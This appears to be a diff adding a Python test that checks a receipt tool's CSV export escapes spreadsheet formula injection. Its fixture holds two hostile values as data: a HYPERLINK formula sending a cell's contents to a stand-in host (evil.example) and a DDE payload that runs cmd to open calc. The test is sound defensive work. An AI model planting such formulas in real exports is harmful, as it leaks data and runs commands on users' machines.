@@ -250,3 +250,18 @@ def test_an_error_crosses_from_a_worker_process_whole() -> None:
 
     err = pickle.loads(pickle.dumps(missing_app_file("receipt_assistant/core/schema/bundle-1.json")))
     assert isinstance(err, InstallationError) and "入れ直して" in err.text("ja") and "reinstall" in err.text("en")
+
+
+def test_a_name_written_as_a_formula_stays_text_in_the_staff_csv(tmp_path: Path, store: review.Store) -> None:
+    hostile = Declared("store", 5000, D(2026, 11, 20), '=HYPERLINK("http://evil.example/?"&A1,"clickme")',
+                       None, "@SUM(1+1)*cmd|' /C calc'!A0")
+    e = record(store, bundle_file(tmp_path, "formula", declared=hostile))
+    out = tmp_path / "record.csv"
+    review.export_csv([e], out)
+    # As Excel reads it: every cell's first character decides whether it is a formula.
+    (row,) = csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig")))
+    assert all(not str(v).startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())
+    assert row["name"] == "'" + hostile.name
+    assert row["reference"] == "'" + hostile.reference and row["amount"] == "5000"
+    review.export_json([e], tmp_path / "record.json")  # JSON is data, not a sheet: kept as written
+    assert json.loads((tmp_path / "record.json").read_text(encoding="utf-8"))[0]["name"] == hostile.name
